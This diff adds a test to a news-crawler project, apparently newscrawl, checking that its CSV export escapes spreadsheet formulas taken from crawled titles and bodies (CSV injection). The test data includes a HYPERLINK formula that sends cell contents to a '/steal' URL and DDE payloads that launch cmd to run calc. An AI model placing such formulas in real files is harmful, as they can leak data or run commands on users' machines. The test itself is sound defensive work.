@@ -68,3 +68,35 @@ def test_errors_say_how_to_fix(crawled_db, tmp_path):
     sqlite3.connect(other).execute("create table t (x)").connection.close()
     not_ours = newscrawl("export", "--db", str(other))
     assert not_ours.returncode == 1 and "newscrawl database" in not_ours.stderr
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_escaped(tmp_path):
+    """Pages of a hostile site whose titles and bodies are spreadsheet formulas (OWASP CSV
+    injection) are crawled and stored as they are; CSV quotes them, JSON Lines does not."""
+    from tests.conftest import FAST, crawl, query
+    from tests.hostile import article_html, article_path, hostile, html, listing
+
+    formulas = {1: '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"Click for the full story")',
+                2: "+cmd|' /C calc'!A0 said the minister", 3: "@SUM(1+1)*cmd|' /C calc'!A0",
+                4: "-2+3+cmd|' /C calc'!A0"}
+    routes = {article_path(n): html(article_html(n, title=title)) for n, title in formulas.items()}
+    body = "<p>=1+1 is where this story starts: a sum on the blackboard of a village school.</p>"
+    body += "".join(f"<p>Paragraph {i}: the teacher explained the lesson, and the pupils "
+                    f"wrote it down before the harvest holidays began.</p>" for i in range(4))
+    routes[article_path(5)] = html(article_html(5, body=body))
+    routes["/World/"] = html(listing([article_path(n) for n in range(1, 6)]))
+    db = tmp_path / "a.db"
+    with hostile(routes) as (_server, base):
+        assert crawl(base, db).returncode == 0
+    titles = {r["title"] for r in query(db, "select title from articles")}
+    assert set(formulas.values()) <= titles  # stored as the site wrote them
+
+    out = tmp_path / "articles.csv"
+    assert newscrawl("export", "--db", str(db), "--format", "csv", "-o", str(out)).returncode == 0
+    table = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
+    assert {r["title"] for r in table} == {"'" + t for t in formulas.values()} | {"Story number 5"}
+    assert [r["text"] for r in table if r["text"].startswith("'=1+1 is where")]
+    assert not [cell for r in table for cell in r.values() if cell[:1] in ("=", "+", "@")]
+    assert all(r["simhash"].lstrip("-").isdigit() for r in table)  # numbers stay numbers
+    jsonl = newscrawl("export", "--db", str(db)).stdout
+    assert {json.loads(line)["title"] for line in jsonl.splitlines()} == titles
